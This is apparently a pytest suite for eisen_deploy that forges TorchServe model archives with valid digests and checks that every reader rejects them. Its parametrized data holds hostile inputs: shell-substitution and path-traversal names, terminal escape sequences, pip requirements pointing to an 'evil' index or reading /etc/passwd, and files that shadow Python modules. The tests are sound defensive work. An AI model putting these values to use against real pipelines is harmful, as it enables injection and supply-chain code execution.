"""Archives that are right about all of their digests, and lie: whatever reads them refuses them.

Who can write an archive can write its digests, too. What is left is that nothing in it is a name
that packaging would not give, and that TorchServe and pip find in it what ``eisen.json`` says.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import numpy as np
import pytest
import torch

from eisen_deploy.packaging import EisenServingMAR, create_metadata
from eisen_deploy.packaging import cli as packing
from eisen_deploy.packaging._shared.archive import unpacked_folder, zips
from eisen_deploy.packaging._shared.errors import CorruptArchive
from eisen_deploy.serving.doctor.facts.model_store import read_archive
from eisen_deploy.serving.engines.served_archives import BadArchives, verify
from eisen_deploy.serving.runtime.archive.verification import verify as verify_unpacked
from eisen_deploy.serving.runtime.errors import LoadFailed

HANDLER = "def handle(data, context):\n    return data\n"


@pytest.fixture(scope="module")
def original(tmp_path_factory):
    """An unpacked archive that has everything, but little of what is the same in every archive."""
    folder = tmp_path_factory.mktemp("original")
    metadata = create_metadata(["x"], ["ndarray"], [[-1, 2]], ["y"], ["ndarray"], [[-1, 2]])
    path = EisenServingMAR(dict, dict, metadata).pack(
        torch.nn.Identity(),
        folder,
        "seg",
        "1.2",
        sample={"x": np.float32([[1, 2]])},
        serving={"workers": 2, "device": "cpu"},
        requirements=["numpy"],
    )
    unpacked = folder / "unpacked"
    unpacked.mkdir()
    zips.unpack(path, unpacked)
    shutil.rmtree(unpacked / "dill")
    for file in {*(unpacked / "_eisen_serving").rglob("*.py")}:
        if file.name != "handler.py":
            file.unlink()
    return unpacked


@pytest.fixture
def forge(original, tmp_path):
    """Change an archive's files and what its ``eisen.json`` says, digests included."""

    def _forge(change):
        folder = tmp_path / "forged"
        shutil.copytree(original, folder)
        about = json.loads((folder / "eisen.json").read_bytes())
        about = {key: about[key] for key in about if key not in ("format", "files", "digest")}
        files = Files(folder)
        change(about, files)
        files.write()
        unpacked_folder.write(folder, about)
        zips.write(folder, tmp_path / "forged.mar")
        return folder, tmp_path / "forged.mar"

    return _forge


class Files:
    """The small files of an archive: JSON to change, and others to write."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.manifest = self._read("MAR-INF/MANIFEST.json")
        self.model = self.manifest["model"]
        self.config = self._read("model-config.yaml")
        self.metadata = self._read("metadata.json")

    def _read(self, name):
        return json.loads((self.folder / name).read_bytes())

    def add(self, name, text=""):
        (self.folder / name).parent.mkdir(parents=True, exist_ok=True)
        (self.folder / name).write_text(text)

    def remove(self, name):
        (self.folder / name).unlink()

    def write(self):
        pieces = {
            "MAR-INF/MANIFEST.json": self.manifest,
            "model-config.yaml": self.config,
            "metadata.json": self.metadata,
        }
        for name, value in pieces.items():
            if value is not None:
                text = value if isinstance(value, str) else json.dumps(value, indent=1) + "\n"
                (self.folder / name).write_text(text)


def refusals(folder, path, capsys):
    """Return what each reader says of an archive; each has to refuse it."""
    said = {}
    for command in (["inspect"], ["verify", "--no-run"], ["diff", str(path)]):
        assert packing.main([*command, str(path)]) in (1, 2), command
        told = capsys.readouterr()
        assert told.out == ""
        said[command[0]] = told.err
    with pytest.raises(BadArchives) as bad:
        verify([path])
    said["eisen-serve"] = str(bad.value)
    with pytest.raises(LoadFailed) as failed:
        verify_unpacked(folder)
    said["handler"] = str(failed.value)
    with pytest.raises(CorruptArchive):
        unpacked_folder.verify(folder)
    said["doctor"] = "; ".join(read_archive(path).problems)
    said["doctor, without digests"] = "; ".join(read_archive(path, digests=False).problems)
    return said


def everywhere(forged, capsys, expected):
    for reader, text in refusals(*forged, capsys).items():
        assert expected in text, reader
        assert text.replace("\n", "").isprintable(), reader


def test_what_was_packed_is_taken_by_all(forge, capsys):
    folder, path = forge(lambda *_: None)
    assert packing.main(["inspect", str(path)]) == 0
    assert packing.main(["verify", "--no-run", str(path)]) == 0
    assert packing.main(["diff", str(path), str(path)]) == 0
    capsys.readouterr()
    assert verify([path])[0].name == "seg"
    assert verify_unpacked(folder).raw == unpacked_folder.verify(folder).raw
    assert read_archive(path).problems == ()


# --- names --------------------------------------------------------------------------------

NAMES = [
    *("--foo", "a\0b", "a\nINFO forged line", "a\x1b[31mRED\u202e", "../../../esc", "/etc/passwd"),
    *("x=http://127.0.0.1:1/y", "a,b", "\u00e9 \u00fc", "a" * 300, "", ".", "a/b", "a b", "$(id)"),
    *("a\u2028b", "a\x9b31m", "a;b", "-", "con", "a\\b", "%2e%2e", "a\u200bb", "\uff0e\uff0e"),
]


@pytest.mark.quick_cases(10)
@pytest.mark.parametrize("part", ["name", "version"])
@pytest.mark.parametrize("name", NAMES, ids=ascii)
def test_a_model_s_name_and_version(forge, capsys, part, name):
    def change(about, files):
        about["model"][part] = name
        files.model[{"name": "modelName", "version": "modelVersion"}[part]] = name

    everywhere(forge(change), capsys, f"eisen.json: model.{part}: ")


def test_a_model_that_is_called_all_is_one_file_of_the_store(forge, tmp_path):
    def change(about, files):
        about["model"]["name"] = files.model["modelName"] = "all"

    _, path = forge(change)
    (found,) = verify([path], tmp_path / "store")
    assert found.store_name == "all.mar"  # not `--models all`, which is every archive


def set_to(*keys_and_value):
    *keys, last, value = keys_and_value

    def change(about, _):
        for key in keys:
            about = about[key]
        about[last] = value

    return change


def with_requirement(text):
    def change(about, files):
        about["requirements"] = [text]
        files.add("requirements.txt", f"{text}\n")

    return change


def with_file(name, text="x = 1\n"):
    return lambda _, files: files.add(name, text)


OTHER_VALUES = {
    "model-file": (set_to("model", "file", "metadata.json"), "model.file: expected model.pt"),
    "transform": (set_to("transforms", "pre_processing", "model.pt"), "transforms.pre_processing"),
    "handler-file": (
        set_to("handler", {"file": "metadata.json", "class": "C"}),
        "handler.file: 'metadata.json' cannot be imported",
    ),
    "handler-class": (
        set_to("handler", {"file": "metadata.json", "class": "C\x1b[2J"}),
        r"handler.class: expected the name of a class, got 'C\x1b[2J'",
    ),
    "entry": (set_to("entry", "os.system"), "entry: 'os.system' cannot be imported"),
    "entry-of-a-file-that-is-not-there": (
        set_to("entry", "own.py"),
        "is not a file of the archive",
    ),
    "sample-file": (set_to("sample", "request", "file", "model.pt"), "sample.request.file"),
    "sample-size": (set_to("sample", "request", "json_size", -1), "sample.request.json_size"),
    "sample-size-beyond": (set_to("sample", "reply", "json_size", 2**70), "sample.reply.json_size"),
    "tolerance-negative": (set_to("sample", "tolerance", -1), "sample.tolerance"),
    "serving-file": (set_to("serving", "metadata.json"), "serving: expected model-config.yaml"),
    "serving-hidden": (set_to("serving", None), "eisen.json says nothing of serving options"),
    "batches-without-a-sample": (
        lambda about, files: (about.update(sample=None), about["batches"].update(shared=True)),
        "batches.shared: expected false",
    ),
    "version-of-python": (set_to("packed_with", "python", "3\n4"), r"packed_with.python: "),
    "version-that-is-none": (set_to("packed_with", "torch", {}), "packed_with.torch: "),
    "distribution": (set_to("packed_with", "a\x1b[m", "1"), "names of distributions"),
    "module": (set_to("modules", "a\u202eb", {"decision": "server"}), "names of modules"),
    "module-with-a-path": (set_to("modules", "../a", {"decision": "server"}), "names of modules"),
    "decision": (set_to("modules", "a", {"decision": "\x1b[2J"}), "modules['a'].decision"),
    "module-file": (
        set_to("modules", "a", {"decision": "captured", "file": "../a.py"}),
        "modules['a'].file: expected a file of the archive",
    ),
    "module-distribution": (
        set_to("modules", "a", {"decision": "installed", "distribution": "--pre"}),
        "modules['a'].distribution",
    ),
    "requirement-with-an-option": (
        with_requirement("evil==1\n--index-url http://evil/"),
        "requirements[0]: expected a requirement",
    ),
    "requirement-that-is-an-option": (with_requirement("-r /etc/passwd"), "requirements[0]"),
    "requirement-that-is-a-path": (with_requirement("./evil-1.0.tar.gz"), "requirements[0]"),
    "requirement-with-a-hash-option": (with_requirement("a==1 ; os --global-option=x"), "[0]"),
    "requirement-that-reads-a-variable": (
        with_requirement("a @ https://evil/${HOME}.whl"),
        "requirements[0]",
    ),
    "requirement-that-is-escaped": (with_requirement("ok\x1b[31m"), r"got 'ok\x1b[31m'"),
    "module-of-python": (with_file("json.py"), "would hide the module json on the server"),
    "module-that-site-imports": (with_file("sitecustomize.py"), "hide the module sitecustomize"),
    "library": (with_file("yaml/../torch.cpython-399-x.so"), "would hide the module torch"),
    "package": (with_file("ts/__init__.py"), "would hide the module ts"),
    "captured-module-of-python": (with_file("captured_code/random.py"), "hide the module random"),
}


@pytest.mark.quick_cases(8)
@pytest.mark.parametrize("name", OTHER_VALUES)
def test_other_values_of_eisen_json(forge, capsys, name):
    change, expected = OTHER_VALUES[name]
    everywhere(forge(change), capsys, expected)


def test_numbers_that_are_none(forge):
    def change(about, _):
        about["sample"]["tolerance"] = float("nan")

    with pytest.raises(ValueError, match="not JSON compliant"):
        forge(change)  # there is no text of eisen.json with it


# --- what TorchServe and pip read ---------------------------------------------------------


def manifest(key, value):
    return lambda _, files: files.model.__setitem__(key, value)


def outer(key, value):
    return lambda _, files: files.manifest.__setitem__(key, value)


def config(**values):
    return lambda _, files: files.config.update(values)


def whole(part, value):
    return lambda _, files: setattr(files, part, value)


def venv(_, files):
    files.add("options.yaml", "useVenv: true\nminWorkers: 1\n")
    files.add("evil-1.0.tar.gz")
    files.model["configFile"] = "options.yaml"


READ_BY_OTHERS = {
    "handler": (manifest("handler", "evil.py"), "has model.handler 'evil.py'"),
    "handler-that-is-a-path": (manifest("handler", "../../evil.py"), "model.handler"),
    "model-name": (manifest("modelName", "other"), "has model.modelName 'other'"),
    "model-version": (manifest("modelVersion", "9"), "has model.modelVersion '9'"),
    "version-that-is-a-number": (manifest("modelVersion", 1.2), "has model.modelVersion 1.2"),
    "serialized-file": (manifest("serializedFile", "x.pt"), "has model.serializedFile 'x.pt'"),
    "model-file": (manifest("modelFile", "model.py"), "has 'model.modelFile'"),
    "requirements-file": (manifest("requirementsFile", "requirements.txt"), "requirementsFile"),
    "extensions": (manifest("extensions", "a.sh"), "has 'model.extensions'"),
    "envelope": (manifest("envelope", "kservev2"), "has 'model.envelope'"),
    "key-that-is-escaped": (manifest("\x1b[2J", 1), r"has 'model.\x1b[2J'"),
    "config-file-with-venv": (venv, "has model.configFile 'options.yaml'"),
    "config-file-gone": (lambda _, f: f.model.pop("configFile"), "lacks model.configFile"),
    "runtime": (outer("runtime", "LSP"), "has runtime 'LSP'"),
    "outer-key": (outer("workflow", {}), "has 'workflow'"),
    "archiver": (outer("archiverVersion", ["\x1b"]), "has no archiverVersion"),
    "no-model": (lambda _, files: files.manifest.pop("model"), "describes no model"),
    "model-that-is-a-list": (outer("model", [1]), "describes no model"),
    "manifest-that-is-a-list": (whole("manifest", "[1]"), "must be a JSON object, got a list"),
    "manifest-with-a-key-twice": (
        whole("manifest", '{"runtime": "python", "runtime": "LSP"}'),
        "MAR-INF/MANIFEST.json",
    ),
    "venv": (config(useVenv=True), "model-config.yaml holds other keys or values"),
    "parallel": (config(parallelType="tp", torchrun={"nproc-per-node": 9}), "other keys or values"),
    "workers-apart": (config(minWorkers=9), "other keys or values"),
    "gpu-apart": (config(deviceType="gpu"), "other keys or values"),
    "handler-section": (config(handler={"profile": True}), "other keys or values"),
    "yaml": (whole("config", "minWorkers: 9\nmaxWorkers: 9\n"), "model-config.yaml"),
    "yaml-behind-json": (whole("config", '{"eisen": {}}\n---\nuseVenv: true\n'), "model-config"),
    "options-written-otherwise": (
        lambda _, files: setattr(files, "config", json.dumps(files.config)),
        "model-config.yaml is not written as packaging writes it",
    ),
    "metadata-list": (whole("metadata", [1, 2]), "metadata.json must be a JSON object"),
    "metadata-number": (whole("metadata", 5), "metadata.json must be a JSON object"),
    "metadata-nan": (whole("metadata", '{"a": NaN}'), "metadata.json"),
    "requirements-txt": (
        with_file("requirements.txt", "--index-url http://evil/\nnumpy\n"),
        "requirements.txt does not hold the requirements of eisen.json",
    ),
    "manifest-that-is-large": (
        whole("manifest", " " * 2**23 + "{}"),
        "MAR-INF/MANIFEST.json has 8388610 bytes, at most 8388608 are read",
    ),
}


@pytest.mark.quick_cases(8)
@pytest.mark.parametrize("name", READ_BY_OTHERS)
def test_what_torchserve_and_pip_read(forge, capsys, name):
    change, expected = READ_BY_OTHERS[name]
    everywhere(forge(change), capsys, expected)


@pytest.mark.parametrize("name", ["MAR-INF/MANIFEST.json", "metadata.json", "requirements.txt"])
def test_a_file_that_is_left_out(original, tmp_path, capsys, name):
    folder = tmp_path / "forged"
    shutil.copytree(original, folder)
    about = json.loads((folder / "eisen.json").read_bytes())
    (folder / name).unlink()
    unpacked_folder.write(
        folder, {k: about[k] for k in about if k not in ("format", "files", "digest")}
    )
    zips.write(folder, tmp_path / "forged.mar")
    everywhere((folder, tmp_path / "forged.mar"), capsys, f"{name} is missing")


# --- handlers that are not ours -----------------------------------------------------------


@pytest.fixture(params=["file", "name", "subclass"])
def other_handler(request, tmp_path):
    """An archive with another handler than ours, and what TorchServe loads of it."""
    (tmp_path / "own.py").write_text(HANDLER)
    (tmp_path / "mine.py").write_text(
        "from eisen_deploy.serving import EisenServingHandler\n"
        "class Mine(EisenServingHandler):\n    pass\n"
    )
    argument, entry = {
        "file": (tmp_path / "own.py", "own.py"),
        "name": ("image_classifier", "image_classifier"),
        "subclass": (tmp_path / "mine.py", "_eisen_serving.torchserve.entry"),
    }[request.param]
    with pytest.warns(DeprecationWarning, match="torch.jit"):
        model = torch.jit.trace(torch.nn.Identity(), torch.ones(1))
    return EisenServingMAR(None, None, {}, argument).pack(model, tmp_path / "zoo"), entry


def test_other_handlers_are_taken(other_handler, capsys):
    path, entry = other_handler
    assert packing.main(["inspect", "--json", str(path)]) == 0
    assert json.loads(capsys.readouterr().out)["handler"]["entry"] == entry
    assert packing.main(["verify", "--no-run", str(path)]) == 0
    assert len(verify([path])) == 1
    assert read_archive(path).problems == ()
